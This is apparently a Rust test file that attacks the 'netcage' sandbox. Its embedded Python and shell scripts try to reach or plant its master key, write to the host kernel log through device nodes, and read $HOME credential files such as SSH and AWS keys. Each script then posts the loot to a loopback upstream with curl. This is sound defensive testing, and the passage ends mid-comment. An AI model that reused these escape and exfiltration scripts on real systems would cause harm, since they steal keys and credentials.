//! The Tier 1 filesystem and process sandbox, attacked the way a hostile command would:
//! the master key and its data dir, devices, credential files in `$HOME`, writes that would
//! persist, host Unix sockets, SysV IPC and POSIX shm, kernel keyrings, signals, vsock and
//! the refused syscalls, netcage's own state. Root and rootless (uid 4242 through setpriv).
//!
//! Every attempt is judged by what a party OUTSIDE the sandbox saw wherever that is
//! possible: the recording upstream (which the command may reach under the default policy,
//! so it is the exfiltration channel), host files the test owns, listeners the test binds,
//! processes outside, the key netcage used. Each test that proves a refusal also shows that
//! its channel works (a control), so that it could fail.
//!
//! Tests marked `#[ignore = "known gap: …"]` demonstrate a way out that is still open and
//! listed in README's "Known gaps": they fail when run (`cargo test --test tier1_sandbox --
//! --ignored`), and pass once it is closed. Every other test here once found an escape, or
//! proves one never existed, and must pass.
//!
//! Nothing here talks to anything but loopback; vsock sockets are created, never connected.

mod common;
mod tier1_support;

use std::io::Read;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use common::*;
use serde_json::{Value, json};
use tier1_support::*;

/// Tests in this file that keep a [`Tally`]; the last to finish prints the total.
const TALLIED_TESTS: usize = 12;

// ---------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------

/// The arguments of `netcage run --tier netns` for this mode with the data dir of the
/// test's choosing (`Fx::run_cmd` always names the fixture's own), the upstream's CA, the
/// pins and the audit log.
fn run_argv(fx: &Fx, data_dir: &Path, opts: &[&str], child: &[&str]) -> Vec<std::ffi::OsString> {
    let mut argv: Vec<std::ffi::OsString> = ["run", "--tier", "netns", "--data-dir"]
        .iter()
        .map(Into::into)
        .collect();
    argv.push(data_dir.into());
    argv.push("--upstream-ca".into());
    argv.push(fx.ca_path.clone().into());
    for pin in [BOUND, OTHER] {
        argv.push("--resolve".into());
        argv.push(format!("{pin}=127.0.0.1").into());
    }
    argv.push("--audit".into());
    argv.push(fx.audit.clone().into());
    argv.extend(opts.iter().map(Into::into));
    argv.push("--".into());
    argv.extend(child.iter().map(Into::into));
    argv
}

/// `netcage run` (see [`run_argv`]) as this mode runs it.
fn run_cmd(fx: &Fx, data_dir: &Path, opts: &[&str], child: &[&str]) -> Command {
    let mut cmd = fx.netcage();
    cmd.args(run_argv(fx, data_dir, opts, child));
    cmd
}

/// `SHELL -c SCRIPT sh NETCAGE run …`, as this mode's user: a shell outside that starts
/// netcage itself (its `"$@"`).
fn shell_around(fx: &Fx, shell: &str, script: &str, child: &[&str]) -> Command {
    let mut cmd = fx.as_user(Path::new(shell));
    cmd.arg("-c")
        .arg(script)
        .arg("sh")
        .arg(fx.bin())
        .args(run_argv(fx, &fx.env.data_dir(), &[], child));
    cmd
}

/// `sh -c SCRIPT sh ARGS…` in the sandbox, with the fixture's data dir.
fn sh(fx: &Fx, script: &str, args: &[&str]) -> Command {
    let mut child = vec!["sh", "-c", script, "sh"];
    child.extend_from_slice(args);
    run_cmd(fx, &fx.env.data_dir(), &[], &child)
}

/// `python3 -c SCRIPT ARGS…` in the sandbox, with the fixture's data dir.
fn py(fx: &Fx, script: &str, args: &[&str]) -> Command {
    let mut child = vec!["python3", "-c", script];
    child.extend_from_slice(args);
    run_cmd(fx, &fx.env.data_dir(), &[], &child)
}

fn run(cmd: &mut Command) -> Output {
    run_with_timeout(cmd, RUN_TIMEOUT)
}

/// The command's `$HOME` (and `XDG_CONFIG_HOME`) set to `home` instead of the working
/// directory.
fn with_home<'c>(cmd: &'c mut Command, home: &Path) -> &'c mut Command {
    cmd.env("HOME", home)
        .env("XDG_CONFIG_HOME", home.join(".config"))
}

/// A directory outside every place the sandbox makes fresh (`/tmp`, `/var/tmp`, `/run`):
/// under the build's own tmp dir, reachable by [`UID`] (and owned by it in rootless runs).
fn outside_dir(mode: Mode, prefix: &str) -> tempfile::TempDir {
    let dir = tempfile::Builder::new()
        .prefix(prefix)
        .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
        .unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    if mode == Mode::Rootless {
        chown_tree(dir.path());
    }
    dir
}

/// Makes `path` (and what is under it) the mode's user's.
fn own(mode: Mode, path: &Path) {
    if mode == Mode::Rootless {
        chown_tree(path);
    }
}

/// Writes `text` to `path` (parents made), mode `perm`, owned by the mode's user.
fn put(mode: Mode, path: &Path, text: &str, perm: u32) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(perm)).unwrap();
    own(mode, path);
}

/// A value that occurs nowhere unless something copied it.
fn marker(what: &str) -> String {
    format!("MARKER-{what}-{:016x}", rand::random::<u64>())
}

/// Everything the command printed, both streams.
fn printed(out: &Output) -> Vec<u8> {
    let mut all = out.stdout.clone();
    all.extend_from_slice(&out.stderr);
    all
}

/// The recorded requests that carry `needle` anywhere.
fn upstream_saw(fx: &Fx, needle: &str) -> Vec<String> {
    fx.up
        .requests()
        .into_iter()
        .filter(|r| r.contains(needle.as_bytes()))
        .map(|r| format!("{} {}", r.method, r.target))
        .collect()
}

/// What identifies a file's content and inode, to prove it did not change.
fn fingerprint(path: &Path) -> Option<(Vec<u8>, u64, i64, i64)> {
    let meta = std::fs::symlink_metadata(path).ok()?;
    let data = if meta.is_file() {
        std::fs::read(path).ok()?
    } else {
        Vec::new()
    };
    Some((
        data,
        meta.ino(),
        meta.mtime_nsec() + meta.mtime() * 1_000_000_000,
        meta.ctime(),
    ))
}

/// Like [`for_each_mode`], but runs every mode even when one fails, then fails with what
/// each failing mode reported: the ESCAPE tests say in which modes the way out works.
fn in_each_mode(f: impl Fn(Mode)) {
    let mut failed = Vec::new();
    for_each_mode(|mode| {
        if let Err(e) = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| f(mode))) {
            let msg = e
                .downcast_ref::<String>()
                .cloned()
                .or_else(|| e.downcast_ref::<&str>().map(|s| s.to_string()))
                .unwrap_or_default();
            failed.push(format!("[{}] {msg}", mode.name()));
        }
    });
    assert!(failed.is_empty(), "{}", failed.join("\n\n"));
}

/// Removes the paths on drop (files the test made outside its temp dirs).
struct Cleanup(Vec<PathBuf>);

impl Drop for Cleanup {
    fn drop(&mut self) {
        for p in &self.0 {
            if p.is_dir() {
                let _ = std::fs::remove_dir_all(p);
            } else {
                let _ = std::fs::remove_file(p);
            }
        }
    }
}

/// A Python prologue for the inside scripts: `sc(nr, *args)` → "ok" or the errno name.
const PY_SC: &str = r#"
import ctypes, errno, json, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def sc(nr, *a):
    ctypes.set_errno(0)
    args = [ctypes.c_long(x) if isinstance(x, int) else x for x in a]
    r = libc.syscall(ctypes.c_long(nr), *args)
    return "ok" if r >= 0 else errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))
def en(e):
    return errno.errorcode.get(e.errno, str(e))
"#;

fn with_sc(script: &str) -> String {
    format!("{PY_SC}\n{script}")
}

/// What the terminal showed of `cmd` run under a pseudo-terminal (`tier1_support::under_pty`).
fn pty_text(cmd: &Command) -> String {
    String::from_utf8_lossy(&under_pty(cmd).stdout).into_owned()
}

/// The host's kernel log (root reads it).
fn host_dmesg() -> String {
    let out = Command::new("dmesg").output().expect("run dmesg");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// A Starpod layout in the fixture's working directory: `./.starpod/db/.vault_key`, the
/// fixture's key (moved there), made before any sandbox could write there (as a real
/// project's is).
fn starpod_layout(fx: &Fx) -> PathBuf {
    let db = fx.env.root().join(".starpod/db");
    std::fs::create_dir_all(&db).unwrap();
    let key = db.join(".vault_key");
    // Moved, not copied: a second copy of the key in the working directory would be an
    // ordinary readable file there.
    std::fs::rename(fx.env.key_path(), &key).unwrap();
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
    own(fx.mode, &fx.env.root().join(".starpod"));
    key
}

/// The key an attacker plants: 64 hex characters of a key it knows.
const PLANTED_KEY_HEX: &str = "0707070707070707070707070707070707070707070707070707070707070707";
const PLANTED_KEY: [u8; 32] = [7u8; 32];

/// The first `starpod:v1:` token in `text`.
fn token_in(text: &str) -> Option<String> {
    let start = text.find("starpod:v1:")?;
    let rest = &text[start..];
    let end = rest
        .find(|c: char| !(c.is_ascii_alphanumeric() || "+/=:".contains(c)))
        .unwrap_or(rest.len());
    Some(rest[..end].to_owned())
}

/// `netcage run --seal T1_SECRET=BOUND` with `data_dir`, whose command prints the token it
/// was given and sends it to the upstream. Returns the run's output.
fn seal_run(fx: &Fx, data_dir: &str, path: &str) -> Output {
    let url = fx.url(BOUND, path);
    let mut cmd = run_cmd(
        fx,
        Path::new(data_dir),
        &["--seal", &format!("T1_SECRET={BOUND}")],
        &[
            "sh",
            "-c",
            r#"echo "token=$T1_SECRET"; curl -sS --max-time 10 -o /dev/null -H "X-Api-Key: $T1_SECRET" "$1""#,
            "sh",
            &url,
        ],
    );
    cmd.env("T1_SECRET", SECRET);
    run(&mut cmd)
}

/// The one line netcage printed for a refused key file, or a failure that shows the run.
fn assert_refused_key(out: &Output, what: &str, mode: Mode) {
    let stderr = String::from_utf8_lossy(&out.stderr);
    let lines: Vec<&str> = stderr.lines().filter(|l| !l.trim().is_empty()).collect();
    assert!(
        out.status.code() == Some(2)
            && lines.len() == 1
            && lines[0].contains("refusing the key file"),
        "ESCAPED [{}] — {what}: netcage used a key file the sandbox planted (expected exit 2 \
         and one line refusing it):\n{}",
        mode.name(),
        describe(out)
    );
}

// ---------------------------------------------------------------------------------------
// 1. The master key
// ---------------------------------------------------------------------------------------

/// The command tries every way to move the data dir out of the way or reach the key:
/// renaming every ancestor (`mv`, `rename`, `RENAME_EXCHANGE`), `rm -rf`, swapping in a
/// symbolic link, hard links, `/proc/self/root`, `/proc/1/root`, `/proc/1/cwd`, every
/// descriptor under `/proc/*/fd`, and every `.vault_key` it can find — and posts what it
/// got to the upstream. Judged outside: the key file is unchanged, the data dir still where
/// it was, and no form of the key reached the upstream or the output. Control: the same
/// post carries a file the command may read.
#[test]
fn the_master_key_cannot_be_moved_linked_or_reached() {
    let mut tally = Tally::new("master key", TALLIED_TESTS);
    const SCRIPT: &str = r#"
import ctypes, errno, json, os, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
cwd = os.getcwd()
res, loot = {}, []
def en(e):
    return errno.errorcode.get(e.errno, str(e))
def attempt(name, f):
    try:
        f()
        res[name] = "ok"
    except OSError as e:
        res[name] = en(e)
def grab(name, path):
    try:
        with open(path, "rb") as fh:
            data = fh.read(1 << 16)
        loot.append(data)
        res[name] = "read %d bytes" % len(data)
    except OSError as e:
        res[name] = en(e)
def rename_exchange(a, b):
    AT_FDCWD, RENAME_EXCHANGE = -100, 2
    if libc.renameat2(AT_FDCWD, a.encode(), AT_FDCWD, b.encode(), RENAME_EXCHANGE) != 0:
        raise OSError(ctypes.get_errno(), "renameat2")
os.makedirs("decoy/db", exist_ok=True)
key = ".starpod/db/.vault_key"
for p in [".starpod", ".starpod/db"]:
    attempt("rename " + p, lambda p=p: os.rename(p, p + ".moved"))
    attempt("exchange " + p, lambda p=p: rename_exchange(p, "decoy" if p == ".starpod" else "decoy/db"))
    attempt("rmdir " + p, lambda p=p: os.rmdir(p))
attempt("rename cwd", lambda: os.rename(cwd, cwd + ".moved"))
attempt("exchange cwd", lambda: rename_exchange(cwd, os.path.join(cwd, "decoy")))
res["rm -rf .starpod"] = subprocess.run(["rm", "-rf", ".starpod"], capture_output=True).returncode
res["mv .starpod"] = subprocess.run(["mv", ".starpod", "elsewhere"], capture_output=True).returncode
res["ln -sfnT .starpod/db"] = subprocess.run(["ln", "-sfnT", "/tmp", ".starpod/db"], capture_output=True).returncode
os.symlink("decoy", "swap")
attempt("rename a symlink over .starpod", lambda: os.rename("swap", ".starpod"))
attempt("write into the data dir", lambda: open(".starpod/db/.vault_key", "wb").write(b"x" * 32))
attempt("hard link", lambda: os.link(key, "hl"))
attempt("hard link via /proc/self/root", lambda: os.link("/proc/self/root" + cwd + "/" + key, "hl2"))
grab("cat", key)
grab("/proc/self/root", "/proc/self/root" + cwd + "/" + key)
grab("/proc/1/root", "/proc/1/root" + cwd + "/" + key)
grab("/proc/1/cwd", "/proc/1/cwd/" + key)
grab("/proc/self/cwd", "/proc/self/cwd/" + key)
fds = []
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        names = os.listdir("/proc/%s/fd" % pid)
    except OSError:
        continue
    for fd in names:
        link = "/proc/%s/fd/%s" % (pid, fd)
        try:
            target = os.readlink(link)
        except OSError:
            continue
        fds.append(target)
        if target.startswith("/") and os.path.isfile(link):
            grab("fd " + target, link)
res["fds"] = fds
found = []
for top in (cwd, os.path.expanduser("~")):
    for d, _, files in os.walk(top):
        for f in files:
            if "vault_key" in f:
                found.append(os.path.join(d, f))
                grab("found " + os.path.join(d, f), os.path.join(d, f))
res["found"] = found
grab("control", "readable.txt")
open("/tmp/loot", "wb").write(b"\n".join(loot))
print(json.dumps(res))
r = subprocess.run(["curl", "-sS", "--max-time", "10", "-o", "/dev/null", "--data-binary", "@/tmp/loot", sys.argv[1]])
print("posted", r.returncode)
"#;
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let key = starpod_layout(&fx);
        let visible = marker("readable");
        fx.write("readable.txt", &visible);
        let before = fingerprint(&key).unwrap();
        let dir_before = fingerprint(&fx.env.root().join(".starpod")).unwrap();
        let url = fx.url(BOUND, "/exfil-key");
        let mut cmd = run_cmd(
            &fx,
            Path::new(".starpod/db"),
            &[],
            &["python3", "-c", SCRIPT, &url],
        );
        let out = run(&mut cmd);
        let text = stdout_str(&out);
        let res: Value = text
            .lines()
            .find_map(|l| serde_json::from_str(l).ok())
            .unwrap_or_else(|| panic!("[{}] no report: {}", mode.name(), describe(&out)));
        assert!(text.contains("posted 0"), "{}", describe(&out));
        // Control: the post arrived, carrying what the command could read.
        let got = fx.up.wait_for_requests(1, WAIT);
        assert!(
            got.iter().any(|r| r.contains(visible.as_bytes())),
            "[{}] the exfiltration channel does not work, so this test proves nothing: {got:?}",
            mode.name()
        );
        let mut seen = printed(&out);
        for r in fx.up.requests() {
            seen.extend_from_slice(&r.body_prefix);
        }
        assert_no_secret_material(&seen, &fx.env.key(), "what the command read and posted");
        tally.blocked(
            mode,
            "reading the key by path, /proc/*/root, /proc/*/cwd, /proc/*/fd",
        );

        assert_eq!(
            fingerprint(&key).as_ref(),
            Some(&before),
            "ESCAPED [{}]: the key file changed or moved: {res}",
            mode.name()
        );
        let dir_now = fingerprint(&fx.env.root().join(".starpod"));
        assert_eq!(
            dir_now.as_ref().map(|f| f.1),
            Some(dir_before.1),
            "ESCAPED [{}]: .starpod was replaced: {res}",
            mode.name()
        );
        assert!(
            std::fs::symlink_metadata(fx.env.root().join(".starpod/db"))
                .unwrap()
                .is_dir(),
            "ESCAPED [{}]: .starpod/db is no longer a directory: {res}",
            mode.name()
        );
        for gone in [
            ".starpod.moved",
            ".starpod/db.moved",
            "elsewhere",
            "hl",
            "hl2",
        ] {
            assert!(
                !fx.env.root().join(gone).exists(),
                "ESCAPED [{}]: {gone} exists on the host: {res}",
                mode.name()
            );
        }
        for step in [
            "rename .starpod",
            "rename .starpod/db",
            "exchange .starpod",
            "exchange .starpod/db",
            "rmdir .starpod",
            "rmdir .starpod/db",
            "rename cwd",
            "exchange cwd",
            "rename a symlink over .starpod",
            "write into the data dir",
            "hard link",
            "hard link via /proc/self/root",
            "cat",
            "/proc/self/root",
            "/proc/1/root",
            "/proc/1/cwd",
            "/proc/self/cwd",
        ] {
            assert!(
                res[step]
                    .as_str()
                    .is_some_and(|s| s != "ok" && !s.starts_with("read")),
                "[{}] {step} worked inside: {res}",
                mode.name()
            );
        }
        for step in ["rm -rf .starpod", "mv .starpod", "ln -sfnT .starpod/db"] {
            assert_ne!(res[step], 0, "[{}] {step} succeeded: {res}", mode.name());
        }
        tally.blocked(
            mode,
            "moving, exchanging, removing or replacing the data dir or any ancestor",
        );
        tally.blocked(mode, "hard-linking the hidden key");
        assert!(
            !res["found"]
                .as_array()
                .unwrap()
                .iter()
                .any(|f| f.as_str().unwrap().ends_with(".starpod/db/.vault_key")),
            "[{}] the key is listed: {res}",
            mode.name()
        );
    });
    tally.finish();
}

/// The command plants a key it knows where the next `netcage run` would take one: a new
/// data dir, a symbolic link to it, a `--key-file`. The next run with `--seal` refuses each
/// (exit 2, one line saying why) and the upstream never gets the sealed value; the same run
/// with the real data dir does seal (the control), and the real key is unchanged.
#[test]
fn a_key_planted_by_a_command_is_refused_at_the_next_run() {
    let mut tally = Tally::new("planted key", TALLIED_TESTS);
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let key = starpod_layout(&fx);
        let before = fingerprint(&key).unwrap();
        let script = r#"
mkdir -p planted/db linked/db
printf %s "$1" > planted/db/.vault_key; chmod 600 planted/db/.vault_key
printf %s "$1" > planted.key; chmod 600 planted.key
ln -s ../../planted/db/.vault_key linked/db/.vault_key
printf %s "$1" > .starpod/db/.vault_key; echo "into-data-dir=$?"
printf %s "$1" > .starpod/db/.vault_key.new && mv .starpod/db/.vault_key.new .starpod/db/.vault_key; echo "swap=$?"
"#;
        let mut cmd = run_cmd(
            &fx,
            Path::new(".starpod/db"),
            &[],
            &["sh", "-c", script, "sh", PLANTED_KEY_HEX],
        );
        let out = run(&mut cmd);
        let text = stdout_str(&out);
        assert!(
            fx.env.root().join("planted/db/.vault_key").exists(),
            "[{}] the plant did not happen: {}",
            mode.name(),
            describe(&out)
        );
        assert!(
            !text.contains("into-data-dir=0") && !text.contains("swap=0"),
            "[{}] the command wrote into the data dir: {text}",
            mode.name()
        );
        assert_eq!(fingerprint(&key).as_ref(), Some(&before));
        tally.blocked(mode, "writing a key into the data dir itself");

        for (data_dir, what) in [
            ("planted/db", "a new data dir with a planted .vault_key"),
            (
                "linked/db",
                "a data dir whose .vault_key is a planted symbolic link",
            ),
        ] {
            let out = seal_run(&fx, data_dir, "/after-plant");
            assert_refused_key(&out, what, mode);
            tally.blocked(mode, what);
        }
        let url = fx.url(BOUND, "/after-plant");
        let mut cmd = run_cmd(
            &fx,
            Path::new(".starpod/db"),
            &[
                "--key-file",
                "planted.key",
                "--seal",
                &format!("T1_SECRET={BOUND}"),
            ],
            &[
                "sh",
                "-c",
                r#"curl -sS --max-time 10 -o /dev/null -H "X-Api-Key: $T1_SECRET" "$1""#,
                "sh",
                &url,
            ],
        );
        cmd.env("T1_SECRET", SECRET);
        let out = run(&mut cmd);
        assert_refused_key(&out, "a planted --key-file", mode);
        tally.blocked(mode, "a planted --key-file");
        settle();
        assert!(
            fx.up.requests().is_empty(),
            "[{}] a refused run still reached the upstream: {:?}",
            mode.name(),
            fx.up.requests()
        );

        // Control: the real data dir seals, and the value reaches the upstream.
        let out = seal_run(&fx, ".starpod/db", "/genuine");
        assert!(out.status.success(), "{}", describe(&out));
        let got = fx.up.wait_for_requests(1, WAIT);
        assert!(
            got.iter()
                .any(|r| r.header_str("x-api-key").as_deref() == Some(SECRET)),
            "[{}] the genuine key did not seal: {got:?}",
            mode.name()
        );
        assert_eq!(fingerprint(&key).as_ref(), Some(&before));
    });
    tally.finish();
}

/// Attack (once an escape): `vouch` checks the change time of the key file and of a symbolic link that is
/// its last component, but not of the directories on its path. A command that can read an
/// older key file elsewhere (another project's: only the current data dir is hidden) makes
/// `./.starpod` a symbolic link to that project's `.starpod`. The next `netcage run` in this
/// directory takes `./.starpod/db/.vault_key` — really the other project's key, older than
/// any sandbox — adopts it as trusted, and seals the user's secret with a key the command
/// has already sent out. Here the upstream receives the key in the first run, and the token
/// of the second run opens with it.
#[test]
fn a_data_dir_behind_a_planted_symbolic_link_is_refused() {
    in_each_mode(|mode| {
        let fx = Fx::new(mode);
        // Another Starpod project of the same user on this machine, older than any sandbox.
        let other = outside_dir(mode, "netcage-other-project-");
        let other_key: [u8; 32] = rand::random();
        let other_db = other.path().join(".starpod/db");
        std::fs::create_dir_all(&other_db).unwrap();
        std::fs::write(other_db.join(".vault_key"), other_key).unwrap();
        std::fs::set_permissions(
            other_db.join(".vault_key"),
            std::fs::Permissions::from_mode(0o600),
        )
        .unwrap();
        own(mode, other.path());
        std::thread::sleep(Duration::from_millis(30));

        // Run 1 (the fixture's own data dir): read the other key, post it, plant the link.
        let url = fx.url(BOUND, "/stolen-key");
        let script = r#"od -An -tx1 "$1/.starpod/db/.vault_key" | tr -d ' \n' > /tmp/k
curl -sS --max-time 10 -o /dev/null --data-binary @/tmp/k "$2"
ln -s "$1/.starpod" .starpod; echo "planted=$?""#;
        let out = run(&mut sh(
            &fx,
            script,
            &[other.path().to_str().unwrap(), &url],
        ));
        assert!(stdout_str(&out).contains("planted=0"), "{}", describe(&out));
        let sent = fx.up.wait_for_requests(1, WAIT);
        let stolen = hex(&other_key);
        let leaked = sent.iter().any(|r| r.contains(stolen.as_bytes()));

        // Run 2: the next run in this directory, with the default data dir.
        let out = seal_run(&fx, ".starpod/db", "/run-two");
        let opened = token_in(&stdout_str(&out))
            .and_then(|t| unseal_with_key(&other_key, &t))
            .map(|(v, _)| v);
        assert!(
            out.status.code() == Some(2),
            "ESCAPED [{}]: netcage sealed with the key behind the planted ./.starpod link \
             (the upstream {} that key in run 1; the run-2 token opens with it to {:?}):\n{}",
            mode.name(),
            if leaked {
                "received"
            } else {
                "did not receive"
            },
            opened,
            describe(&out)
        );
    });
}

/// Attack (once an escape): netcage's state dir (`~/.local/share/netcage`, the record of which directories
/// sandboxes may write and which keys are trusted) is hidden only if it exists when the view
/// is computed. On a first run with no key file yet (an ephemeral key) it does not: netcage
/// creates it afterwards, and with `$HOME` writable (here `$HOME` is the working directory)
/// the command sees and rewrites `trust.json`: it empties the record of writable
/// directories and plants a key; the next run trusts the planted key and seals with it.
#[test]
fn the_state_dir_is_hidden_on_a_first_run_too() {
    in_each_mode(|mode| {
        let fx = Fx::new(mode);
        let script = r#"ls -A "$HOME/.local/share/netcage" | tr '\n' ' '; echo
printf '{"keys":[],"writable":[]}' > "$HOME/.local/share/netcage/trust.json"; echo "rewrote=$?"
mkdir -p planted/db && printf %s "$1" > planted/db/.vault_key && chmod 600 planted/db/.vault_key"#;
        // No key file at all in this data dir: netcage uses a fresh key for the run.
        let mut cmd = run_cmd(
            &fx,
            Path::new("fresh/db"),
            &[],
            &["sh", "-c", script, "sh", PLANTED_KEY_HEX],
        );
        let out = run(&mut cmd);
        let rewrote = stdout_str(&out).contains("rewrote=0");
        let out = seal_run(&fx, "planted/db", "/after-first-run");
        let opened = token_in(&stdout_str(&out))
            .and_then(|t| unseal_with_key(&PLANTED_KEY, &t))
            .map(|(v, _)| v);
        assert!(
            out.status.code() == Some(2),
            "ESCAPED [{}]: the command {} netcage's trust.json, and the next run sealed with \
             its planted key (the token opens with it to {opened:?}):\n{}",
            mode.name(),
            if rewrote {
                "rewrote"
            } else {
                "did not rewrite"
            },
            describe(&out)
        );
    });
}

// ---------------------------------------------------------------------------------------
// 2. Devices
// ---------------------------------------------------------------------------------------

/// `/dev` holds only null zero full random urandom tty ptmx pts shm fd stdin stdout stderr;
/// the host's block devices, kmsg, kvm, console, mem, vsock… are not there (a write to
/// kmsg would show in the host's `dmesg`), no node can be made, and a pty still opens.
#[test]
fn dev_holds_only_the_minimal_set() {
    let mut tally = Tally::new("devices", TALLIED_TESTS);
    const SCRIPT: &str = r#"
import errno, json, os, stat, sys
mark = sys.argv[1]
out = {"dev": sorted(os.listdir("/dev")), "open": {}}
for p in ["/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/loop0", "/dev/loop-control", "/dev/kmsg",
          "/dev/kvm", "/dev/console", "/dev/mem", "/dev/kmem", "/dev/port", "/dev/vsock",
          "/dev/fuse", "/dev/net/tun", "/dev/tty0", "/dev/tty1", "/dev/ttyS0", "/dev/zram0",
          "/dev/btrfs-control", "/dev/userfaultfd", "/dev/hwrng", "/dev/cpu/0/msr", "/dev/vcs",
          "/dev/autofs", "/dev/vga_arbiter", "/dev/snapshot", "/dev/watchdog"]:
    try:
        flags = os.O_WRONLY if p == "/dev/kmsg" else os.O_RDWR
        fd = os.open(p, flags | os.O_NONBLOCK | os.O_NOCTTY)
        if p == "/dev/kmsg":
            os.write(fd, ("<4>" + mark + "\n").encode())
        os.close(fd)
        out["open"][p] = "ok"
    except OSError as e:
        out["open"][p] = errno.errorcode.get(e.errno, str(e))
def attempt(name, f):
    try:
        f()
        out[name] = "ok"
    except OSError as e:
        out[name] = errno.errorcode.get(e.errno, str(e))
attempt("mknod kmsg", lambda: os.mknod("/tmp/kmsg", stat.S_IFCHR | 0o666, os.makedev(1, 11)))
attempt("mknod vda", lambda: os.mknod("./vda", stat.S_IFBLK | 0o666, os.makedev(254, 0)))
attempt("create in /dev", lambda: open("/dev/new", "w"))
master, slave = os.openpty()
os.write(master, b"through the pty\n")
out["pty"] = os.read(slave, 100).decode().strip()
out["pty name"] = os.ttyname(slave)
with open("/dev/null", "w") as f:
    f.write("x")
with open("/dev/urandom", "rb") as f:
    out["urandom"] = len(f.read(16))
print(json.dumps(out))
"#;
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let mark = marker("kmsg");
        let out = run(&mut py(&fx, SCRIPT, &[&mark]));
        let res = stdout_json(&out);
        // Outside: the host's kernel log has no line from the sandbox.
        assert!(
            !host_dmesg().contains(&mark),
            "ESCAPED [{}]: the sandbox wrote to the host's kernel log: {res}",
            mode.name()
        );
        tally.blocked(mode, "writing to /dev/kmsg (host dmesg unchanged)");
        let dev: Vec<&str> = res["dev"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_str().unwrap())
            .collect();
        let mut want = vec![
            "fd", "full", "null", "ptmx", "pts", "random", "shm", "stderr", "stdin", "stdout",
            "tty", "urandom", "zero",
        ];
        want.sort();
        assert_eq!(
            dev,
            want,
            "[{}] /dev holds more or less: {res}",
            mode.name()
        );
        for (path, outcome) in res["open"].as_object().unwrap() {
            assert_eq!(
                outcome,
                "ENOENT",
                "[{}] {path} is there in the sandbox: {res}",
                mode.name()
            );
            if Path::new(path).exists() {
                tally.blocked(mode, &format!("opening the host's {path}"));
            }
        }
        for step in ["mknod kmsg", "mknod vda", "create in /dev"] {
            assert_ne!(res[step], "ok", "[{}] {step}: {res}", mode.name());
        }
        assert!(!fx.env.root().join("vda").exists());
        tally.blocked(mode, "making a device node");
        assert_eq!(res["pty"], "through the pty", "{res}");
        assert!(res["pty name"].as_str().unwrap().starts_with("/dev/pts/"));
        assert_eq!(res["urandom"], 16);
    });
    tally.finish();
}

/// Attack (once an escape): the minimal `/dev` does not stop device nodes elsewhere. Neither the read-only
/// root nor the writable working directory is `nodev`, so a device node anywhere on the
/// host's filesystems — a chroot or container rootfs (debootstrap, LXC, sbuild, mock make
/// them), a build tree — opens as the device. Here, as root, a `kmsg` node (char 1:11,
/// 0644 root, as the real one) writes a line into the host's kernel log, and in both modes a
/// `kvm` node (10:232, 0666 as many distributions make /dev/kvm) answers `KVM_GET_API_VERSION`.
#[test]
fn device_nodes_outside_dev_do_not_open() {
    in_each_mode(|mode| {
        let fx = Fx::new(mode);
        let tree = outside_dir(mode, "netcage-chroot-");
        let dev = tree.path().join("dev");
        std::fs::create_dir(&dev).unwrap();
        let mknod = |name: &str, major: u64, minor: u64, perm: u32| {
            nix::sys::stat::mknod(
                &dev.join(name),
                nix::sys::stat::SFlag::S_IFCHR,
                nix::sys::stat::Mode::from_bits_truncate(perm),
                nix::sys::stat::makedev(major, minor),
            )
            .unwrap();
            std::fs::set_permissions(dev.join(name), std::fs::Permissions::from_mode(perm))
                .unwrap();
        };
        mknod("kmsg", 1, 11, 0o644);
        mknod("kvm", 10, 232, 0o666);
        let mark = marker("kmsg-outside-dev");
        let script = r#"
import errno, fcntl, json, os, sys
d, mark = sys.argv[1], sys.argv[2]
out = {}
try:
    fd = os.open(d + "/kmsg", os.O_WRONLY)
    os.write(fd, ("<4>" + mark + "\n").encode())
    out["kmsg"] = "wrote"
except OSError as e:
    out["kmsg"] = errno.errorcode.get(e.errno)
try:
    fd = os.open(d + "/kvm", os.O_RDWR)
    out["kvm"] = "KVM_GET_API_VERSION=%d" % fcntl.ioctl(fd, 0xAE00)
except OSError as e:
    out["kvm"] = errno.errorcode.get(e.errno)
print(json.dumps(out))
"#;
        let out = run(&mut py(&fx, script, &[dev.to_str().unwrap(), &mark]));
        let res = stdout_json(&out);
        let in_dmesg = host_dmesg().contains(&mark);
        let kvm = res["kvm"].as_str().unwrap_or("").starts_with("KVM_GET");
        assert!(
            !in_dmesg && !kvm,
            "ESCAPED [{}]: device nodes outside /dev work in the sandbox: host dmesg has the \
             marker: {in_dmesg}; {res}",
            mode.name()
        );
    });
}

// ---------------------------------------------------------------------------------------
// 3. Credential files in $HOME, and the system's
// ---------------------------------------------------------------------------------------

/// Credential files (relative to `$HOME`) the tests fill with markers; every one is a
/// location of `src/sandbox/credentials.rs`.
const CREDENTIALS: &[&str] = &[
    ".ssh/id_rsa",
    ".ssh/id_ed25519",
    ".aws/credentials",
    ".config/gh/hosts.yml",
    ".netrc",
    ".docker/config.json",
    ".kube/config",
    ".git-credentials",
    ".npmrc",
    ".pypirc",
    ".cargo/credentials.toml",
    ".config/gcloud/application_default_credentials.json",
    ".gnupg/private-keys-v1.d/0123.key",
    ".vault-token",
    ".pgpass",
    ".claude/.credentials.json",
    ".config/rclone/rclone.conf",
    ".terraform.d/credentials.tfrc.json",
];

/// Reads every path it can think of for each credential file, walks `$HOME` and the working
/// directory reading every file, tries renaming the credential directories out from under
